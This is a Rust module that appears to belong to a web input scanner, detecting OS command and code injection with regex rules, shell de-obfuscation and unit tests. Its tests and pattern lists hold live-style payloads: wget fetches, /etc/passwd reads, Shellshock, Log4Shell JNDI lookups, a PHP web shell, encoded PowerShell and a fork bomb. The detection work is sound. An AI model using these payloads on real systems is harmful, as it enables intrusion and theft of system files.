//! OS command and code injection: a shell metacharacter (`;`, `|`, `&&`, newline,
//! backtick, `$(`) followed by a command, after undoing shell-level obfuscation
//! (quotes inside words, `\`, `$IFS`, `$@`); plus interpreter/deserialisation gadgets.

use super::rules::{rule, Category::Rce, PatternTable, Rule, Severity::*};
use super::scan::Text;

/// Commands that are not ordinary English words: a separator before them is enough.
macro_rules! strong_cmds {
    () => {
        r"(?:wget|curl|whoami|uname|getent|nslookup|ifconfig|ipconfig|netstat|systeminfo|tasklist|taskkill|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|schtasks|powershell|pwsh|bash|zsh|ksh|csh|tcsh|busybox|ncat|netcat|nc|socat|python[23]?|perl|ruby|php|base64|xxd|chmod|chown|chgrp|crontab|nohup|sudo|useradd|usermod|mkfifo|mknod|printenv|traceroute|pkill|killall|sh|cmd\.exe|net\.exe|reg\.exe|sc\.exe|net1)"
    };
}

/// Everyday words that are also commands: require a command-like argument after them.
macro_rules! weak_cmds {
    () => {
        r"(?:echo|printf|set|type|find|host|net|reg|sort|tee|touch|mv|cp|mkdir|export|exec|eval|start|call|copy|del|move|ren|rename|cat|tac|ls|id|dir|ps|kill|head|tail|more|less|env|rm|nl|awk|sed|grep|dig|reboot|shutdown|halt|node|lua|gcc|ftp|tftp|ssh|scp|telnet|dash|cmd|passwd|xargs|ping|sleep|timeout)"
    };
}

/// A shell command separator (also `$(` and process substitution `<(` `>(`), the
/// anchor for every command rule.
macro_rules! sep {
    () => {
        r"(?:[;|`\n]|&&|\|\||[$<>]\(|&)\s*"
    };
}

pub(super) static TABLE: PatternTable = PatternTable::new(&[
    (
        rule("rce-unix-command", Rce, 1, Critical),
        concat!(
            sep!(),
            r"(?:[a-z_]+=\S*\s+)?(?:sudo\s+)?(?:/?(?:usr/)?(?:local/)?s?bin/)?",
            strong_cmds!(),
            r"(?:$|[\s;|&`)<>]|\.exe\b)"
        ),
    ),
    // An everyday word after a separator (`; Touch;` in a mobile User-Agent,
    // `(BB10; Touch)`, `salt & pepper; cat food`) is prose or a product token unless
    // it hugs the separator as shell input does (`;id;`, `|id`, `;echo 1`); with
    // command-like arguments any spacing counts.
    (
        rule("rce-command-with-args", Rce, 1, Critical),
        concat!(
            r"(?:[;|`\n]|&&|\|\||\$\(|&)",
            weak_cmds!(),
            r"(?:$|[;|&`)<>\n]|\s+\S)|",
            sep!(),
            weak_cmds!(),
            r"(?:\s+[-/.$~%]|\s+\x22?[a-z]:\\|\s*[|<>]|\s*`)"
        ),
    ),
    (
        rule("rce-timing-probe", Rce, 1, Critical),
        concat!(sep!(), r"(?:ping|sleep|timeout)\s+(?:-[a-z]\s+)?\d|\bping\s+-[nc]\s*\d+\s+[a-z0-9]"),
    ),
    (
        rule("rce-shell-path", Rce, 1, Critical),
        r"/bin/(?:ba|z|k|c|tc|da|fi)?sh\b|/usr/bin/(?:env|perl|python[23]?|php|ruby|nc|wget|curl|id)\b|\bcmd(?:\.exe)?\s+/[ck]\s|[;|&`]\s*(?:usr/)?s?bin/[a-z]",
    ),
    (
        rule("rce-shellshock", Rce, 1, Critical),
        r"\(\s*\)\s*\{\s*[:\w]*\s*;?\s*\}\s*;",
    ),
    (rule("rce-arith-subst", Rce, 1, Critical), r"\$\(\(\s*[\d$]"),
    // `:(){ :|:& };:` (a function that pipes into itself) and cmd.exe `for … in (…) do`.
    (
        rule("rce-shell-construct", Rce, 1, Critical),
        r":\s*\(\s*\)\s*\{[^}]{0,64}\|[^}]{0,64}\}|\bfor\s+(?:/[dfrl]\s+(?:\x22[^\x22]{0,64}\x22\s+)?)?%{1,2}[a-z~\]]+\s+in\s*\([^)]{0,256}\)\s*do\b",
    ),
    (
        rule("rce-command-substitution", Rce, 1, Critical),
        concat!(
            r"(?:\$\(|`)\s*",
            strong_cmds!(),
            r"\b[^`)]*[`)]|[<>]\(\s*(?:",
            strong_cmds!(),
            "|",
            weak_cmds!(),
            r")\b[^)]*\)"
        ),
    ),
    (
        rule("rce-powershell", Rce, 1, Critical),
        r"\b(?:powershell|pwsh)(?:\.exe)?\s+-|-(?:encodedcommand|enc)\s+[a-z0-9+/=]{16,}|\biex\s*\(|invoke-(?:expression|webrequest|command)|new-object\s+(?:system\.)?net\.webclient|downloadstring\s*\(|start-process\s",
    ),
    (
        rule("rce-code-injection", Rce, 1, Critical),
        r"\b(?:system|passthru|shell_exec|proc_open|popen|pcntl_exec|phpinfo|assert|create_function)\s*\(|<\?php|\bos\s*\.\s*(?:system|popen|exec[a-z]*|spawn[a-z]*)\s*\(|subprocess\s*\.\s*[a-z_]+\s*\(|__import__\s*\(|runtime\s*\.\s*getruntime\s*\(|java\.lang\.(?:runtime|processbuilder)|child_process|require\s*\(\s*['\x22]child_process",
    ),
    (
        rule("rce-deserialization", Rce, 1, Critical),
        r"!!python/|!!javax?\.|\bro0ab[a-z0-9+/]|\baced0005|o:\d+:\x22[a-z_\\]+\x22:\d+:\{|\$type\x22?\s*:\s*\x22system\.",
    ),
    (
        rule("rce-asp-vbscript", Rce, 1, Critical),
        r"\bcreateobject\s*\(|wscript\.shell|response\.(?:write|end)\b|server\.(?:scripttimeout|createobject|execute)\b|on error resume next|\bexecute\s*\(\s*[\x22a-z(]",
    ),
    (
        rule("rce-log4shell", Rce, 1, Critical),
        r"\$\{\s*(?:jndi|\$\{[^}]*\}[^}]*j[^}]*n[^}]*d[^}]*i)[^}]*:",
    ),
]);

pub fn detect(t: &Text<'_>, out: &mut Vec<&'static Rule>) {
    if !t.has_any(b";|&`$\n({/\\<!-") {
        return;
    }
    let start = out.len();
    TABLE.scan(t.s, out);
    // Shell quoting tricks (`c'a't`, `c\at`, `cat$IFS/etc`) only exist with these bytes.
    if t.has_any(b"'\"\\$") {
        let unquoted = shell_unquote(t.s);
        if unquoted != t.s {
            let mut more = Vec::new();
            TABLE.scan(&unquoted, &mut more);
            for r in more {
                if !out[start..].iter().any(|o| o.id == r.id) {
                    out.push(r);
                }
            }
        }
    }
}

/// Undo shell word obfuscation: drop quotes and backslashes, turn `$IFS`, `${IFS}`,
/// `$IFS$9` into a space and drop empty expansions like `$@`, `$9`.
fn shell_unquote(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let rest = &s[i..];
        if let Some(r) = rest
            .strip_prefix("${ifs}")
            .or_else(|| rest.strip_prefix("$ifs"))
        {
            out.push(' ');
            i = s.len() - r.len();
            if s[i..].starts_with('$') && s.as_bytes().get(i + 1).is_some_and(u8::is_ascii_digit) {
                i += 2;
            }
            continue;
        }
        match b[i] {
            b'\'' | b'"' | b'\\' => i += 1,
            b'$' if b
                .get(i + 1)
                .is_some_and(|c| c.is_ascii_digit() || *c == b'@' || *c == b'*') =>
            {
                i += 2
            }
            _ => {
                let ch_len = rest.chars().next().map_or(1, char::len_utf8);
                out.push_str(&rest[..ch_len]);
                i += ch_len;
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::test_util::{fires, ids};

    #[test]
    fn attacks() {
        for p in [
            ";wget http://x/sh.sh",
            "|getent+hosts+x.example.&",
            ";getent$IFS$9hosts$IFS$9x;echo$IFS$9$((3482*7301));",
            "| set /a 3482*7301",
            "; cat /et'c/pa'ss'wd",
            "cmd=127.0.0.1 && ls /etc",
            "ax--exec=`id`--remote=origin",
            "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
            "$(whoami)",
            "a|c\\at /etc/hosts",
            "x & ping -n 3 127.0.0.1",
            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA",
            "!!python/object/new:exec [import socket]",
            "${jndi:ldap://x/a}",
            "<?php system($_GET['c']); ?>",
            "%0Aid%0A",
            ";echo 111111",
            "|usr/bin/id",
            "x ping -n 30 127.0.0.1",
            "<(cat file)",
            ":(){ :|:& };:",
            "& for %a in (a,b,c) do cmd",
            "for /f \"usebackq\" %variable in (`command`) do command",
        ] {
            assert!(fires(p, "rce-"), "{p}: {:?}", ids(p));
        }
    }

    #[test]
    fn benign() {
        for p in [
            "echo in the mirror",
            "curl and divergence",
            "exec noun",
            "bash away in the gym",
            "zsh is the best!",
            "ls 300 lexus",
            "nc 8000 controller",
            "Tom & Jerry",
            "salt & pepper; cat food is great",
            "R&D | Q&A",
            "The parameter 5 is&|.",
            "url=/?usr=subject;-",
            "$(document).ready(fn)",
            "price: $5 & up",
            "I setted the COOKIE value to : expandGeoJsonFeatures=true;",
            "we ship worldwide; type your address below",
            "Mozilla/5.0 (BB10; Touch) AppleWebKit/537.3+ (KHTML, like Gecko) Version/10.0.9.388 Mobile Safari/537.3+",
            "Mozilla/5.0 (Mobile; Windows Phone 8.1; Android 4.0; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0)",
            "apples, pears & more",
            "first line\nsecond line, then more",
        ] {
            assert!(!fires(p, "rce-"), "{p}: {:?}", ids(p));
        }
    }
}
